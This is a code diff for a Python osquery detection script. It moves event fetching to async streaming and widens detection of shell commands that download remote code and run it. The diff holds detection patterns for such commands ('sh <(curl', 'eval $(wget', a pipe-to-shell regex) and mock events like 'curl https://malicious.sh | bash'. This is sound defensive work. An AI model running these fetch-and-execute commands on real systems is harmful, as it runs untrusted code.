@@ -9,6 +9,11 @@ Environment variables:
   OSQUERY_API_URL      - Base URL for the osquery API (e.g. https://api.internal/osquery)
   OSQUERY_API_TOKEN    - Bearer token or API key for authentication
   PAGE_SIZE            - (Optional) Number of events to fetch per page, defaults to 50
+  PAGINATION_MODE      - (Optional) "cursor" (default) or "offset"
+  PREFETCH_PAGES       - (Optional) Pages requested per batch in offset mode, defaults to 64
+  ENV                  - (Optional) "dev" (default) serves mock events when the API is
+                         unreachable; any other value makes request failures fatal
+  LOG_LEVEL            - (Optional) Logging level, defaults to INFO (DEBUG shows every request)
 
 Usage:
   export OSQUERY_API_URL="https://mock.local/osquery"
@@ -17,10 +22,115 @@ Usage:
   python3 python/detections/paginated_osquery_client_env.py
 """
 
+import asyncio
+import contextlib
+import logging
 import os
+import re
 import sys
-import requests
-from typing import List, Dict, Any
+import types
+from dataclasses import dataclass, field
+from typing import AsyncIterator, Callable, List, Dict, Any, Mapping, Optional
+
+import aiohttp
+import ijson
+from ijson.common import ObjectBuilder
+
+try:
+    import ahocorasick
+except ImportError:  # optional; a regex alternation is used instead
+    ahocorasick = None
+
+# python/ holds helpers shared by the detection and enrichment scripts.
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+from http_retry import get_with_retry  # noqa: E402
+
+log = logging.getLogger("detections.osquery")
+
+
+# Decoded events queued between page fetchers and the consumer.
+_EVENT_BUFFER = 1024
+_PAGE_END = object()
+# No deadline for a whole page: a streamed page is read only as fast as the
+# consumer keeps up, so just connecting and each socket read are bounded.
+_PAGE_TIMEOUT = aiohttp.ClientTimeout(total=None, sock_connect=5, sock_read=5)
+
+
+# Output piped straight into a shell (sh, bash, zsh or dash): "| bash",
+# "|sh", "| sudo -E bash", with any spacing and case. Whitespace and option
+# tolerance need a regex.
+_PIPE_TO_SHELL = re.compile(r"\|\s*(sudo\s+(-\S+\s+)*)?(ba|z|da)?sh\b", re.IGNORECASE)
+
+# Downloads run by a shell without a pipe: process substitution, command
+# substitution and eval. Fixed cmdline fragments, matched case-insensitively
+# anywhere in the cmdline ("sh <(curl" also covers bash and zsh). Add
+# literal rules here.
+LITERAL_RULES = (
+    "sh <(curl",
+    "sh <(wget",
+    "source <(curl",
+    "source <(wget",
+    'sh -c "$(curl',
+    'sh -c "$(wget',
+    "sh -c '$(curl",
+    "sh -c '$(wget",
+    "sh -c $(curl",
+    "sh -c $(wget",
+    'eval "$(curl',
+    'eval "$(wget',
+    "eval $(curl",
+    "eval $(wget",
+)
+
+
+def _compile_patterns(patterns) -> Callable[[str], bool]:
+    """
+    Build one matcher that checks every literal in a single pass over the text.
+
+    With pyahocorasick installed this is an Aho-Corasick automaton, so cost
+    does not grow with the number of rules; otherwise a C regex alternation.
+    """
+    if not patterns:
+        return lambda text: False
+    if ahocorasick is None:
+        regex = re.compile("|".join(map(re.escape, patterns)), re.IGNORECASE)
+        return lambda text: regex.search(text) is not None
+
+    automaton = ahocorasick.Automaton()
+    for pattern in patterns:
+        automaton.add_word(pattern.lower(), pattern)
+    automaton.make_automaton()
+    return lambda text: next(automaton.iter(text.lower()), None) is not None
+
+
+_matches_literal_rule = _compile_patterns(LITERAL_RULES)
+
+
+_NO_EXTRA: Mapping[str, Any] = types.MappingProxyType({})
+
+
+@dataclass(slots=True, frozen=True)
+class Event:
+    """
+    One osquery process event with fixed-offset attribute access for the
+    fields the detections read. Anything else is kept read-only in
+    ``extra``. Slots only shrink the modelled fields: an event that carries
+    unmodelled fields still holds them in a dict, so it is only slightly
+    smaller than the decoded dict it came from.
+    """
+    pid: Optional[int]
+    cmdline: str = ""
+    extra: Mapping[str, Any] = field(default_factory=lambda: _NO_EXTRA, hash=False)
+
+    @classmethod
+    def from_dict(cls, raw: Dict[str, Any]) -> "Event":
+        """Build an Event from decoded JSON; unmodelled fields go to ``extra``."""
+        extra = {k: v for k, v in raw.items() if k not in ("pid", "cmdline")}
+        return cls(pid=raw.get("pid"), cmdline=raw.get("cmdline") or "",
+                   extra=types.MappingProxyType(extra) if extra else _NO_EXTRA)
+
+    def to_dict(self) -> Dict[str, Any]:
+        return {**self.extra, "pid": self.pid, "cmdline": self.cmdline}
 
 
 def load_config() -> Dict[str, Any]:
@@ -28,80 +138,258 @@ def load_config() -> Dict[str, Any]:
     base_url = os.getenv("OSQUERY_API_URL")
     token = os.getenv("OSQUERY_API_TOKEN")
     page_size = int(os.getenv("PAGE_SIZE", "50"))
+    pagination = os.getenv("PAGINATION_MODE", "cursor").lower()
+    prefetch_pages = int(os.getenv("PREFETCH_PAGES", "64"))
 
     if not base_url or not token:
-        print("[ERROR] OSQUERY_API_URL and OSQUERY_API_TOKEN are required environment variables.")
+        log.error("OSQUERY_API_URL and OSQUERY_API_TOKEN are required environment variables.")
+        sys.exit(1)
+
+    if pagination not in ("cursor", "offset"):
+        log.error("PAGINATION_MODE must be 'cursor' or 'offset', got %r.", pagination)
         sys.exit(1)
 
     return {
         "base_url": base_url.rstrip("/"),
         "headers": {"Authorization": f"Bearer {token}"},
         "page_size": page_size,
+        "pagination": pagination,
+        "prefetch_pages": max(prefetch_pages, 1),
     }
 
 
-def fetch_page(base_url: str, headers: Dict[str, str], params: Dict[str, Any]) -> Dict[str, Any]:
-    """Retrieve one page of data and raise for bad status codes."""
+def _client_session(cfg: Dict[str, Any]) -> aiohttp.ClientSession:
+    """
+    One keep-alive session per run: TCP/TLS handshakes happen once per pooled
+    connection and the Authorization header is set once, not per request.
+    """
+    connector = aiohttp.TCPConnector(limit=64, limit_per_host=64, keepalive_timeout=30)
+    return aiohttp.ClientSession(headers=cfg["headers"], connector=connector)
+
+
+_MOCK_EVENTS = [
+    Event(pid=1, cmdline="bash -c 'curl https://malicious.sh | bash'"),
+    Event(pid=2, cmdline="curl https://legit.sh -o /tmp/x && bash /tmp/x"),
+]
+
+
+async def stream_page(session: aiohttp.ClientSession, base_url: str,
+                      params: Dict[str, Any], page: Dict[str, Any]) -> AsyncIterator[Event]:
+    """
+    Yield the events of one page as they are decoded off the socket.
+
+    The body is parsed incrementally with ijson, so neither the raw JSON
+    text nor the full events list is ever held in memory. The page's
+    next_cursor is written into ``page`` once it has been read.
+    """
     url = f"{base_url}/process_events"
+    page["next_cursor"] = None
+    yielded = 0
+    try:
+        async with await get_with_retry(session, url, params=params,
+                                        timeout=_PAGE_TIMEOUT) as resp:
+            log.debug("GET %s -> %s", resp.url, resp.status)
+            resp.raise_for_status()  # raises ClientResponseError for 4xx/5xx
+            builder = None
+            async for prefix, event, value in ijson.parse_async(resp.content, use_float=True):
+                if prefix == "next_cursor":
+                    page["next_cursor"] = value
+                elif prefix == "events.item" and event == "start_map":
+                    builder = ObjectBuilder()
+                    builder.event(event, value)
+                elif builder is not None:
+                    builder.event(event, value)
+                    if prefix == "events.item" and event == "end_map":
+                        yielded += 1
+                        yield Event.from_dict(builder.value)
+                        builder = None
+    except aiohttp.ClientResponseError as e:
+        if os.getenv("ENV", "dev") != "dev":
+            raise
+        log.error("%s returned %s: %s", url, e.status, e.message)
+    except ijson.JSONError as e:
+        if os.getenv("ENV", "dev") != "dev":
+            raise
+        log.error("%s returned malformed JSON: %s", url, e)
+    except (aiohttp.ClientError, asyncio.TimeoutError) as e:
+        if os.getenv("ENV", "dev") != "dev":
+            raise
+        log.warning("Request error fetching data: %r", e)
+        # fallback mock data for local demo; only an untouched first page
+        # falls back, so offset mode still terminates
+        if not yielded and not params.get("offset", 0):
+            for event in _MOCK_EVENTS:
+                yield event
+
+
+async def _pump_page(session: aiohttp.ClientSession, base_url: str, params: Dict[str, Any],
+                     page: Dict[str, Any], queue: asyncio.Queue) -> None:
+    """Stream one page into ``queue``, then _PAGE_END or the exception that stopped it."""
     try:
-        resp = requests.get(url, headers=headers, params=params, timeout=5)
-        print(f"[DEBUG] GET {resp.url} -> {resp.status_code}")
-        resp.raise_for_status()  # raises HTTPError for 4xx/5xx
-        return resp.json()
-    except requests.exceptions.HTTPError as e:
-        print(f"[ERROR] {url} returned {resp.status_code}: {e}")
-        return {"events": [], "next_cursor": None}
-    except requests.RequestException as e:
-        print(f"[WARN] Request error fetching data: {e}")
-        # fallback mock data for local demo
-        return {
-            "events": [
-                {"pid": 1, "cmdline": "bash -c 'curl https://malicious.sh | bash'"},
-                {"pid": 2, "cmdline": "curl https://legit.sh -o /tmp/x && bash /tmp/x"}
-            ],
-            "next_cursor": None
-        }
-
-
-def fetch_all_events(cfg: Dict[str, Any]) -> List[Dict[str, Any]]:
-    """Iterate over all pages until no next_cursor is returned."""
-    all_events = []
-    cursor = None
-    page_num = 1
+        async for event in stream_page(session, base_url, params, page):
+            await queue.put(event)
+    except Exception as e:  # re-raised by the consumer, in page order
+        await queue.put(e)
+    else:
+        await queue.put(_PAGE_END)
+
+
+async def _iter_offset_events(session: aiohttp.ClientSession,
+                              cfg: Dict[str, Any]) -> AsyncIterator[Event]:
+    """
+    Stream pages requested in concurrent batches until a short page is returned.
+
+    Every page of a batch streams into its own queue and the queues are
+    drained in page order. Together they hold at most
+    max(_EVENT_BUFFER, PREFETCH_PAGES) decoded events; a page whose queue is
+    full stops reading its socket until the consumer catches up. The
+    session's connector caps requests in flight at 64; the rest of a batch
+    waits for a pooled connection.
+    """
+    page_size = cfg["page_size"]
+    batch = cfg["prefetch_pages"]
+    first = 0
 
     while True:
-        params = {"limit": cfg["page_size"]}
-        if cursor:
-            params["cursor"] = cursor
-
-        print(f"\n--- Fetching page {page_num} ---")
-        data = fetch_page(cfg["base_url"], cfg["headers"], params)
-        events = data.get("events", [])
-        all_events.extend(events)
-        cursor = data.get("next_cursor")
-
-        print(f"Fetched {len(events)} events; next_cursor={cursor}")
-        if not cursor:
-            break
+        log.debug("Fetching pages %d-%d", first + 1, first + batch)
+        queues = [asyncio.Queue(maxsize=max(1, _EVENT_BUFFER // batch)) for _ in range(batch)]
+        tasks = [
+            asyncio.create_task(_pump_page(
+                session, cfg["base_url"], {"limit": page_size, "offset": i * page_size}, {}, queue))
+            for i, queue in enumerate(queues, start=first)
+        ]
+        try:
+            for queue in queues:
+                count = 0
+                while (item := await queue.get()) is not _PAGE_END:
+                    if isinstance(item, Exception):
+                        raise item
+                    count += 1
+                    yield item
+                if count < page_size:
+                    return
+        finally:
+            for task in tasks:
+                task.cancel()
+            await asyncio.gather(*tasks, return_exceptions=True)
+        first += batch
+
+
+def _cursor_params(cfg: Dict[str, Any], cursor: Optional[str]) -> Dict[str, Any]:
+    params = {"limit": cfg["page_size"]}
+    if cursor:
+        params["cursor"] = cursor
+    return params
+
+
+async def _iter_cursor_events(session: aiohttp.ClientSession,
+                              cfg: Dict[str, Any]) -> AsyncIterator[Event]:
+    """
+    Stream every page in turn until no next_cursor is returned.
+
+    Each page only names its successor, so the pipeline is two pages deep:
+    page N+1 is requested as soon as page N's next_cursor has been parsed,
+    while page N's remaining events are still being consumed. Each page
+    streams into a queue of _EVENT_BUFFER // 2 events, so the read-ahead
+    stays bounded however far ahead the cursor appears in the body.
+    """
+    page_num = 0
+
+    def start(cursor: Optional[str]):
+        nonlocal page_num
         page_num += 1
+        log.debug("Fetching page %d", page_num)
+        page: Dict[str, Any] = {}
+        queue = asyncio.Queue(maxsize=max(1, _EVENT_BUFFER // 2))
+        task = asyncio.create_task(_pump_page(
+            session, cfg["base_url"], _cursor_params(cfg, cursor), page, queue))
+        return task, page, queue
 
-    print(f"\n[INFO] Total events collected: {len(all_events)}")
-    return all_events
+    current, pending = start(None), None
+    try:
+        while current is not None:
+            _, page, queue = current
+            while True:
+                item = await queue.get()
+                # stream_page sets next_cursor as soon as it is parsed
+                if pending is None and page.get("next_cursor"):
+                    pending = start(page["next_cursor"])
+                if item is _PAGE_END:
+                    break
+                if isinstance(item, Exception):
+                    raise item
+                yield item
+            current, pending = pending, None
+    finally:
+        tasks = [entry[0] for entry in (current, pending) if entry is not None]
+        for task in tasks:
+            task.cancel()
+        await asyncio.gather(*tasks, return_exceptions=True)
 
 
-def detect_curl_pipe_bash(events: List[Dict[str, Any]]) -> List[Dict[str, Any]]:
+async def iter_events(cfg: Dict[str, Any]) -> AsyncIterator[Event]:
+    """
+    Yield every event from the API over a single HTTP session.
+
+    Events are yielded as they are decoded off the socket, so a consumer that
+    filters them holds its matches plus a bounded read-ahead: up to
+    _EVENT_BUFFER decoded events over two pages in cursor mode, and up to
+    max(_EVENT_BUFFER, PREFETCH_PAGES) in offset mode, which fans out
+    PREFETCH_PAGES requests at a time.
+    """
+    total = 0
+    async with _client_session(cfg) as session:
+        if cfg["pagination"] == "offset":
+            events = _iter_offset_events(session, cfg)
+        else:
+            events = _iter_cursor_events(session, cfg)
+        async with contextlib.aclosing(events):
+            async for event in events:
+                total += 1
+                yield event
+
+    log.info("Total events fetched: %d", total)
+
+
+def is_curl_pipe_bash(event: Event) -> bool:
+    """Detection predicate: output piped straight into a shell."""
+    cmdline = event.cmdline
+    return _PIPE_TO_SHELL.search(cmdline) is not None or _matches_literal_rule(cmdline)
+
+
+def detect_curl_pipe_bash(events: List[Event]) -> List[Event]:
     """Basic detection logic example."""
-    return [e for e in events if "| bash" in e.get("cmdline", "").lower()]
+    return [e for e in events if is_curl_pipe_bash(e)]
+
+
+def _run(coro):
+    """Run ``coro`` on a uvloop (libuv) loop where available, else asyncio's default."""
+    try:
+        import uvloop
+    except ImportError:
+        return asyncio.run(coro)
+    with asyncio.Runner(loop_factory=uvloop.new_event_loop) as runner:
+        return runner.run(coro)
+
+
+async def find_detections(cfg: Dict[str, Any]) -> List[Event]:
+    """Scan the event stream, keeping only detections in memory."""
+    return [e async for e in iter_events(cfg) if is_curl_pipe_bash(e)]
 
 
 def main():
+    logging.basicConfig(level=os.getenv("LOG_LEVEL", "INFO").upper(),
+                        format="[%(levelname)s] %(message)s")
     cfg = load_config()
-    all_events = fetch_all_events(cfg)
-    detections = detect_curl_pipe_bash(all_events)
+    try:
+        detections = _run(find_detections(cfg))
+    except (aiohttp.ClientError, asyncio.TimeoutError, ijson.JSONError) as e:
+        log.error("Giving up on %s: %r", cfg["base_url"], e)
+        sys.exit(1)
 
-    print(f"\n[INFO] Suspicious events found: {len(detections)}")
+    log.info("Suspicious events found: %d", len(detections))
     for ev in detections:
-        print(f"PID {ev['pid']}: {ev['cmdline']}")
+        print(f"PID {ev.pid}: {ev.cmdline}")
 
 
 if __name__ == "__main__":